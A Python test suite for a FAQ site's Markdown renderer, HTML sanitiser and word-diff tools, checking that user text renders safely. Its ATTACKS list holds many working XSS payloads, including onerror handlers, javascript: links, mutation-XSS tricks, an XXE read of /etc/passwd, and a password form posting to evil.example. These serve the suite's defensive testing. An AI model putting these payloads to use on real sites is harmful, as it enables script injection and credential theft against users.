"""What a person writes reaches a page alive as text and dead as code."""

import random
from collections.abc import Iterator
from html.parser import HTMLParser
from itertools import pairwise

import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st

from faq_cms import rendering
from faq_cms.errors import Invalid, TooLarge
from faq_cms.rendering import (
    ATTRIBUTES,
    MAX_BYTES,
    TAGS,
    Piece,
    clean,
    diff_html,
    diff_side_by_side,
    html,
    plain,
    word_diff,
)

# --- Reading the output as a browser's tokeniser would -------------------------------------------

ADDED = {
    "a": {"rel"},
    "img": {"loading"},
    "th": {"scope", "class"},
    "td": {"class"},
}
ALLOWED = {tag: ATTRIBUTES.get(tag, set()) | ADDED.get(tag, set()) for tag in TAGS}
DIFF_ALLOWED: dict[str, set[str]] = {
    "del": set(),
    "ins": set(),
    "br": set(),
    "span": {"class", "role", "aria-label", "title"},
    "table": {"class"},
    "thead": set(),
    "tbody": set(),
    "tr": {"class"},
    "th": {"scope"},
    "td": set(),
}
HARMLESS_STARTS = ("http:", "https:", "mailto:", "tel:", "/", "#", "?", "./", "../")


class Nodes(HTMLParser):
    """Every tag, attribute and text of a page, in order."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, tuple[tuple[str, str | None], ...]]] = []
        self.words: list[str] = []
        self.foreign: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(attrs)))

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        self.foreign.append(data)

    def handle_decl(self, decl: str) -> None:
        self.foreign.append(decl)

    def handle_pi(self, data: str) -> None:
        self.foreign.append(data)

    @property
    def text(self) -> str:
        return "".join(self.words)


def faults(page: str, allowed: dict[str, set[str]] = ALLOWED) -> list[str]:
    """All that should not be in `page`: empty when it is safe."""
    nodes = Nodes(page)
    found = [f"markup: {other}" for other in nodes.foreign]
    for tag, attributes in nodes.tags:
        if tag not in allowed:
            found.append(f"tag: {tag}")
        for name, value in attributes:
            if name not in allowed.get(tag, set()):
                found.append(f"attribute: {tag} {name}")
            if name in {"href", "src"} and not harmless(name, value or ""):
                found.append(f"address: {value}")
    return found


def harmless(attribute: str, url: str) -> bool:
    url = "".join(c for c in url if c > " ").replace("\\", "/").lower()
    if url.startswith("//"):
        return False
    if attribute == "src":
        return url.startswith("/")
    return (
        url.startswith(HARMLESS_STARTS) or ":" not in url.split("/")[0].split("?")[0].split("#")[0]
    )


# --- Text as it may be stored -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("", ""),
        ("un\r\ndeux\rtrois\n", "un\ndeux\ntrois\n"),
        ("un\u2028deux\u2029trois\x85quatre\x0bcinq\x0csix", "un\ndeux\ntrois\nquatre\ncinq\nsix"),
        ("un\r\x00\ndeux", "un\ndeux"),
        ("nul\x00 cloche\x07 échap\x1b", "nul cloche échap"),
        ("tab\tgardée", "tab\tgardée"),
        ("\ufeffmarque d’ordre", "marque d’ordre"),
        ("fin\uffff", "fin"),
        ("e\u0301te\u0301", "été"),
        ("e\x00\u0301", "é"),
        ("C’est super\u202f!\u00a0:", "C’est super\u202f!\u00a0:"),
        ("famille 👨\u200d👩\u200d👧", "famille 👨\u200d👩\u200d👧"),
    ],
)
def test_text_has_one_spelling(typed: str, kept: str) -> None:
    assert clean(typed) == kept


@pytest.mark.parametrize("render", [clean, html, plain, lambda text: diff_html("", text)])
def test_a_lone_surrogate_is_refused_with_its_place(render: object) -> None:
    assert callable(render)
    with pytest.raises(Invalid) as refusal:
        render("ici\ud800")
    assert (refusal.value.reason, refusal.value.detail) == ("lone_surrogate", 3)


@given(st.text())
def test_clean_text_stays_as_it_is_and_suits_every_engine(text: str) -> None:
    once = clean(text)
    assert clean(once) == once
    assert not any(c < " " and c not in "\t\n" for c in once)
    assert once.encode().decode() == once


@pytest.mark.parametrize(
    "render",
    [html, plain, lambda text: diff_html(text, ""), lambda text: diff_side_by_side("", text)],
)
def test_a_text_over_the_limit_is_refused_and_one_at_the_limit_is_shown(render: object) -> None:
    assert callable(render)
    at_the_limit = "mot " * (MAX_BYTES // 4)
    assert render(at_the_limit)
    for text in (at_the_limit + ".", "é" * (MAX_BYTES // 2 + 1)):
        with pytest.raises(TooLarge) as refusal:
            render(text)
        assert refusal.value.limit == MAX_BYTES


# --- Markdown that must come out alive ----------------------------------------------------------

LINK = 'rel="noopener noreferrer"'


@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        ("Oui.", "<p>Oui.</p>"),
        ("**Non** et *peut-être*", "<p><strong>Non</strong> et <em>peut-être</em></p>"),
        ("~~ancien~~", "<p><s>ancien</s></p>"),
        ("un  \ndeux", "<p>un<br>\ndeux</p>"),
        ("un\ndeux", "<p>un\ndeux</p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ("> cité", "<blockquote>\n<p>cité</p>\n</blockquote>"),
        ("`a < b`", "<p><code>a &lt; b</code></p>"),
        ("```python\nx = 1\n```", "<pre><code>x = 1\n</code></pre>"),
        ("[site](https://example.org/a?b=1)",
         f'<p><a href="https://example.org/a?b=1" {LINK}>site</a></p>'),
        ("[ici](/aide/paiement#delai)", f'<p><a href="/aide/paiement#delai" {LINK}>ici</a></p>'),
        ("<facturation@example.org>",
         f'<p><a href="mailto:facturation@example.org" {LINK}>facturation@example.org</a></p>'),
        ("[appeler](tel:+3225550000)", f'<p><a href="tel:+3225550000" {LINK}>appeler</a></p>'),
        ('[a](/b "titre")', f'<p><a href="/b" title="titre" {LINK}>a</a></p>'),
        ("![plan](/aide/plan.png)",
         '<p><img src="/aide/plan.png" alt="plan" loading="lazy"></p>'),
        ("https://example.org", "<p>https://example.org</p>"),
        ("[email protected]", "<p>[email protected]</p>"),
        ("<b>gras</b>", "<p>&lt;b&gt;gras&lt;/b&gt;</p>"),
        ("AT&amp;T &copy;", "<p>AT&amp;T ©</p>"),
        ("C’est super\u202f!", "<p>C’est super\u202f!</p>"),
        ("Délai\u00a0: 30\u202f%", "<p>Délai&nbsp;: 30\u202f%</p>"),
        ("|a|b|\n|:-|-:|\n|1|2|",
         ('<table>\n<thead>\n<tr>\n<th class="align-left" scope="col">a</th>\n'
         '<th class="align-right" scope="col">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n'
         '<td class="align-left">1</td>\n<td class="align-right">2</td>\n</tr>\n</tbody>\n</table>')),
    ],
)  # fmt: skip
def test_markdown_is_rendered(markdown: str, shown: str) -> None:
    assert html(markdown).strip() == shown


@pytest.mark.parametrize(
    ("markdown", "levels"),
    [
        ("# a", ["h3"]),
        ("### a", ["h3"]),
        ("## a\n## b", ["h3", "h3"]),
        ("## a\n#### b\n## c", ["h3", "h4", "h3"]),
        ("#### b\n# a", ["h4", "h3"]),
        ("a\n===\nb\n---", ["h3", "h4"]),
        ("# a\n## b\n### c\n#### d\n##### e\n###### f", ["h3", "h4", "h5", "h6", "h6", "h6"]),
        ("> ## a\n\n- # b", ["h4", "h3"]),
    ],
)
def test_headings_start_at_the_third_level_and_skip_none(markdown: str, levels: list[str]) -> None:
    assert [tag for tag, _ in Nodes(html(markdown)).tags if tag.startswith("h")] == levels


# --- Markdown and HTML that must come out dead --------------------------------------------------

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><annotation-xml encoding='text/html'><svg onload=alert(1)></annotation-xml></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=data:text/html;base64,PHNjcmlwdD4=></iframe>",
    "<form action=https://evil.example><input name=password><button>ok</button></form>",
    "<style>*{display:none}</style>",
    "<div style='position:fixed;inset:0'>piège</div>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A&#x61;vascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](%20javascript:alert(1))",
    "[x](<\u00a0javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/1)",
    "[x](view-source:https://example.org)",
    "[x](//evil.example/a)",
    "[x](/\\evil.example/a)",
    "[x](\\\\\\\\evil.example)",
    "[x](<\\\\evil.example>)",
    "[x](</\t/evil.example>)",
    "[x](<\u00a0//evil.example>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: //evil.example 'a'\n\n[x][x]",
    "<javascript:alert(1)>",
    "<vbscript:x>",
    "<JAVASCRIPT&colon;alert(1)>",
    '[x](/a "\\" onmouseover=\\"alert(1)")',
    "[x](/a '\"><script>alert(1)</script>')",
    '[x](/a"onmouseover="alert(1))',
    "[a](<javascript:alert(1)//>)",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](/a.png)',
    "![![x](https://evil.example/a.png)](https://evil.example/b.png)",
    "[![x](//evil.example/a.png)](javascript:alert(1))",
    "```<script>\nalert(1)\n```",
    "``` x onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "\\<script>alert(1)</script>",
    "<a@b.c\" onclick=alert(1)>",
    "<https://e.example/\"onmouseover=alert(1)>",
    "<x:y onclick=alert(1)>",
    "\ufeff<script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_comes_out_as_harmless_text(attack: str) -> None:
    assert not faults(html(attack))
    assert not faults(diff_html(attack, "autre"), DIFF_ALLOWED)
    assert not faults(diff_side_by_side("autre", attack), DIFF_ALLOWED)


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_sanitiser_alone_would_be_enough(attack: str) -> None:
    assert not faults(rendering._sanitiser.clean(attack))


def test_the_check_of_these_tests_sees_what_is_wrong() -> None:
    page = "<script></script><p onclick=x><a href='java\tscript:x'></a><img src=//e><!-- c -->"
    assert [fault.split(":")[0] for fault in faults(page)] == [
        "markup", "tag", "attribute", "address", "address",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("markdown", "text"),
    [
        ("[x](javascript:alert)", "[x](javascript:alert)"),
        ("![capture d’écran](https://example.org/a.png)", "capture d’écran"),
        ("![*a* `b`](https://example.org/a.png)", "a b"),
        ("<b>gras</b>", "<b>gras</b>"),
    ],
)
def test_what_is_refused_is_still_read(markdown: str, text: str) -> None:
    assert Nodes(html(markdown)).text.strip() == text


FRAGMENTS = [
    *ATTACKS, "[", "]", "(", ")", "<", ">", "&", '"', "'", "`", "```\n", "*", "**", "_", "~~", "\\",
    "\n", "\n\n", "- ", "1. ", "> ", "# ", "|", "|-|\n", "![", "](", "http://", "//", "javascript:",
    "<svg>", "<style>", "<math>", "</p>", "&#x3c;", "&lt;", "\t", "    ", "é", "\u202f", "\x00", "a",
    "onerror=", "[a]: ", "<!--", "-->", "]]>",
]  # fmt: skip


def mixtures(seed: int, rounds: int) -> Iterator[str]:
    """Texts made of what attacks and Markdown are made of."""
    dice = random.Random(seed)  # noqa: S311
    for _ in range(rounds):
        yield "".join(dice.choices(FRAGMENTS, k=dice.randint(1, 12)))


def assert_safe_and_stable(markdown: str) -> None:
    page = html(markdown)
    assert not faults(page), markdown
    again = Nodes(rendering._sanitiser.clean(page))
    assert (again.tags, again.text) == (Nodes(page).tags, Nodes(page).text), markdown


def test_no_mixture_of_attacks_gets_through() -> None:
    for markdown in mixtures(seed=1, rounds=3_000):
        assert_safe_and_stable(markdown)


@pytest.mark.deep
@pytest.mark.timeout(1800)
def test_no_mixture_of_attacks_gets_through_in_a_hundred_thousand() -> None:
    for markdown in mixtures(seed=2, rounds=100_000):
        assert_safe_and_stable(markdown)


@given(st.text())
def test_any_text_gives_safe_html(text: str) -> None:
    assert_safe_and_stable(text)


@given(st.text(), st.text())
def test_any_two_texts_give_a_safe_comparison(before: str, after: str) -> None:
    assert not faults(diff_html(before, after), DIFF_ALLOWED)
    assert not faults(diff_side_by_side(before, after), DIFF_ALLOWED)


# At the limit of size, the shapes that make parsers slow. A fault shows as the suite's timeout.
SLOW = {
    "brackets": "[",
    "links": "[a](",
    "images": "![a](",
    "stars": "*a **b ",
    "quotes": "> ",
    "pipes": "a|b\n-|-\n" + "|\n" * 400,
    "backticks": "`a``",
    "entities": "&amp",
    "tags": "<a b=",
}


@pytest.mark.deep
@pytest.mark.parametrize("shape", SLOW)
def test_a_hostile_shape_of_the_largest_size_is_rendered(shape: str) -> None:
    assert not faults(html(SLOW[shape] * (MAX_BYTES // len(SLOW[shape]))))


@pytest.mark.deep
def test_the_sanitiser_takes_a_megabyte_of_nesting() -> None:
    assert not faults(rendering._sanitiser.clean("<b><svg><p>" * 100_000))


# --- Plain text ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("markdown", "text"),
    [
        ("", ""),
        ("# Titre\n\nUn **mot** et `code`.", "Titre\n\nUn mot et code."),
        ("un\ndeux  \ntrois", "un deux\ntrois"),
        ("- a\n- b\n\nfin", "- a\n- b\n\nfin"),
        ("3. a\n4. b", "3. a\n4. b"),
        ("- a\n  1. b\n  2. c\n- d", "- a\n  1. b\n  2. c\n- d"),
        ("- a\n\n- b", "- a\n- b"),
        ("> cité", "cité"),
        ("|a|b|\n|-|-|\n|1|2|\n\nfin", "a\tb\n1\t2\n\nfin"),
        ("```\nx  =  1\n```\n\nfin", "x  =  1\n\nfin"),
        ("un\n\n---\n\ndeux", "un\n\ndeux"),
        ("![plan](/a.png) et ![x](https://example.org/b.png)", "plan et x"),
        ("AT&amp;T <b>", "AT&T <b>"),
        ("Voir [le site](https://example.org).", "Voir le site."),
        ("C’est super\u202f!", "C’est super\u202f!"),
    ],
)
def test_plain_text_reads_without_marks(markdown: str, text: str) -> None:
    assert plain(markdown) == text


@pytest.mark.parametrize(
    ("markdown", "text"),
    [
        ("Voir [le site](https://example.org).", "Voir le site (https://example.org)."),
        ("<https://example.org>", "https://example.org"),
        ("[écrire](mailto:a@example.org)", "écrire (a@example.org)"),
        ("<a@example.org>", "a@example.org"),
    ],
)
def test_plain_text_gives_the_address_of_links_on_request(markdown: str, text: str) -> None:
    assert plain(markdown, links=True) == text


# --- Comparison ---------------------------------------------------------------------------------

SIGNS = {"equal": "=", "delete": "-", "insert": "+"}


def drawn(before: str, after: str) -> list[str]:
    return [SIGNS[piece.kind] + piece.text for piece in word_diff(before, after)]


@pytest.mark.parametrize(
    ("before", "after", "pieces"),
    [
        ("", "", []),
        ("mot", "mot", ["=mot"]),
        ("", "mot", ["+mot"]),
        ("mot", "", ["-mot"]),
        ("sous 30 jours", "sous 15 jours", ["=sous ", "-30", "+15", "= jours"]),
        ("l'article", "l’article", ["-l'", "+l’", "=article"]),
        ("l’article", "le produit", ["-l’article", "+le produit"]),
        ("un rendez-vous", "un rendez-moi", ["=un ", "-rendez-vous", "+rendez-moi"]),
        ("Vrai ?", "Vrai\u202f?", ["=Vrai", "- ", "+\u202f", "=?"]),
        ("a ! b !", "a\u202f! b\u202f!", ["=a", "- ", "+\u202f", "=! b", "- ", "+\u202f", "=!"]),
        ("Nous envoyons la facture demain", "Vous recevez la note demain",
         ["-Nous envoyons la facture", "+Vous recevez la note", "= demain"]),
        ("le chat noir dort", "noir le chat dort",
         ["+noir ", "=le chat", "- noir", "= dort"]),
        ("un\n\ndeux", "un\n\ntrois\n\ndeux", ["=un\n\n", "+trois\n\n", "=deux"]),
        ("Un mot\nB", "Deux mots\nC", ["-Un mot", "+Deux mots", "=\n", "-B", "+C"]),
    ],
)  # fmt: skip
def test_the_comparison_reads_as_a_person_would_tell_it(
    before: str, after: str, pieces: list[str]
) -> None:
    assert drawn(before, after) == pieces


def joined(pieces: list[Piece], *, without: str) -> str:
    return "".join(piece.text for piece in pieces if piece.kind != without)


def assert_faithful(before: str, after: str) -> list[Piece]:
    pieces = word_diff(before, after)
    assert joined(pieces, without="insert") == before
    assert joined(pieces, without="delete") == after
    assert all(piece.text for piece in pieces)
    neighbours = set(pairwise(piece.kind for piece in pieces))
    assert all(one != other for one, other in neighbours)
    assert ("insert", "delete") not in neighbours
    return pieces


# fmt: off
words = st.lists(st.sampled_from([
    "la", "facture", "l’", "a", "e\u0301", "été", "30", ",", ".", "!", "-", "'", "%", " ", "\u202f", "\n",
]))
# fmt: on


@given(words.map("".join), words.map("".join))
def test_a_comparison_holds_both_texts(before: str, after: str) -> None:
    assert_faithful(before, after)


@given(st.text(), st.text())
def test_a_comparison_of_anything_holds_both_texts(before: str, after: str) -> None:
    assert_faithful(before, after)


@given(st.text())
def test_a_text_does_not_differ_from_itself(text: str) -> None:
    assert {piece.kind for piece in word_diff(text, text)} <= {"equal"}


@given(words, words, words)
def test_one_change_leaves_what_surrounds_it(
    head: list[str], added: list[str], tail: list[str]
) -> None:
    before, after = " ".join([*head, *tail]), " ".join([*head, *added, *tail])
    pieces = assert_faithful(before, after)
    inserted = sum(len(piece.text) for piece in pieces if piece.kind == "insert")
    deleted = sum(len(piece.text) for piece in pieces if piece.kind == "delete")
    assert inserted - deleted == len(after) - len(before)


def test_the_shortest_edit_is_found_between_repeated_words() -> None:
    pairs = rendering._shortest_edit("abcabba", "cbabac", edits=20)
    assert len(pairs) == 4
    assert all("abcabba"[i] == "cbabac"[j] for i, j in pairs)


def rewritten(text: str, dice: random.Random) -> str:
    parts = text.split(" ")
    for _ in range(len(parts) // 20):
        parts[dice.randrange(len(parts))] = "autre"
    return " ".join(parts)


def largest_texts() -> Iterator[tuple[str, str]]:
    dice = random.Random(3)  # noqa: S311
    vocabulary = [f"mot{n}" for n in range(3_000)] + ["la", "de", "est"] * 500
    prose = " ".join(dice.choices(vocabulary, k=MAX_BYTES // 6))[:MAX_BYTES]
    yield prose, rewritten(prose, dice)
    yield prose, " ".join(reversed(prose.split(" ")))
    yield "a b " * (MAX_BYTES // 4), "b a " * (MAX_BYTES // 4)
    yield "".join(dice.choices("ab ", k=MAX_BYTES)), "".join(dice.choices("ab ", k=MAX_BYTES))
    yield "".join(dice.choices(".,!", k=MAX_BYTES)), "".join(dice.choices(".,!", k=MAX_BYTES))


def test_the_largest_and_most_repetitive_texts_are_compared() -> None:
    for before, after in largest_texts():
        assert_faithful(before, after)


def test_a_light_revision_of_the_largest_text_keeps_most_of_it() -> None:
    before, after = next(largest_texts())
    kept = sum(len(piece.text) for piece in word_diff(before, after) if piece.kind == "equal")
    assert kept > 0.85 * len(before)


def test_changes_are_told_by_elements_and_by_words_not_by_colour() -> None:
    page = Nodes(diff_html("sous 30 jours", "sous 15 jours"))
    assert [tag for tag, _ in page.tags if tag in {"del", "ins"}] == ["del", "ins"]
    assert " ".join(page.text.split()) == (
        "sous début de suppression 30 fin de suppression début d’ajout 15 fin d’ajout jours"
    )


@pytest.mark.parametrize(
    ("before", "after", "signs"),
    [
        ("Vrai ?", "Vrai\u202f?", ["espace", "espace fine insécable"]),
        ("Vrai:", "Vrai\u00a0:", ["espace insécable"]),
        ("un\ndeux", "un\n\ndeux", ["fin de ligne"]),
        ("un deux", "un deux trois", []),
    ],
)
def test_a_change_that_cannot_be_seen_is_made_visible(
    before: str, after: str, signs: list[str]
) -> None:
    attributes = [dict(attributes) for _, attributes in Nodes(diff_html(before, after)).tags]
    assert [named["aria-label"] for named in attributes if "aria-label" in named] == signs


def test_side_by_side_puts_the_same_lines_in_the_same_row() -> None:
    table = diff_side_by_side("un\n\ndeux\nfin", "un\n\ntrois\nfin", labels=("v. 1", "v. <2>"))
    assert '<th scope="col">v. &lt;2&gt;</th>' in table
    assert "<tr><td>un</td><td>un</td></tr>" in table
    assert table.count('<tr class="changed"><td><del>') == 1
    assert "<tr><td>fin</td><td>fin</td></tr>" in table
    assert table.count("<tr") == 4


def test_the_installed_sanitiser_keeps_its_promises_on_mutation() -> None:
    # A text that changes meaning when parsed a second time is how sanitisers were defeated.
    page = nh3.clean("<math><mi//xlink:href='data:x,<script>alert(1)</script>'>", tags=set(TAGS))
    assert not faults(page)


def test_a_pile_of_accents_is_cut_where_unicode_cuts_it() -> None:
    assert len(rendering.clean("e" + "\u0301\u0323" * 5000)) <= 31
